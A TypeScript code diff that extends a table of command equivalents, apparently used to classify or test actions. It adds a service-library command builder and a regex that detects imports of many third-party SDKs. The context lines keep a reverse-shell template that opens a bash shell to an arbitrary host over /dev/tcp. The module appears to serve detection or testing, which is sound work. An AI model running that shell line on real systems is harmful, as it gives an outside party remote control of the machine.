@@ -39,6 +39,16 @@ export const EQUIVALENTS = {
   /** Runs a statement in a database. */
   sql: (text: string, isLocal: boolean) => words(["psql", ...(isLocal ? ["-h", "localhost"] : []), "-c", text]),
   cloudRemoval: () => words(["aws", "sdk", "delete-resource"]),
+  /** Asks a service for something by its library. */
+  sdk: (service: string, asked: readonly string[], options: readonly string[]): Inner => ({
+    ...words([
+      service.replace(/_sdk$|_admin$|_client$/, ""),
+      ...asked.flatMap((word) => (/^sendmail$/i.test(word) ? ["send", "mail"] : [word])),
+      "--force",
+      ...options,
+    ]),
+    isProgram: true,
+  }),
   /** Gives another machine a shell. */
   reverseShell: (host: string) => line(`bash -i >& /dev/tcp/${host}/1 0>&1`),
 } as const satisfies Readonly<Record<string, (...args: never[]) => Inner>>;
@@ -70,3 +80,11 @@ function line(text: string): Extract<Inner, { runs: "shell" }> {
 function quoted(address: string): string {
   return `'${address.replaceAll("'", "")}'`;
 }
+
+/** The service whose library code uses, by its name there. */
+export function serviceLibraryIn(code: string): string | undefined {
+  return SERVICE_LIBRARY().exec(code)?.[1];
+}
+
+const SERVICE_LIBRARY = () =>
+  /\b(?:import|from|require|use)\b\s*\(?\s*["']?@?(stripe|paypal|huggingface_hub|mlflow|wandb|slack_sdk|twilio|sendgrid|mailchimp\w*|smtplib|nodemailer|github|octokit|kubernetes|supabase|firebase_admin|firebase-admin|shopify|pagerduty|pdpyras|datadog|cloudflare|digitalocean|hcloud|auth0|okta|jira|notion_client|tweepy|telegram|discord|kaggle|datasets|transformers|sagemaker|googleapiclient|msgraph|woocommerce|shopify|plaid|adyen|square|hubspot|intercom|zendesk|algoliasearch|pinecone|weaviate)\b/;
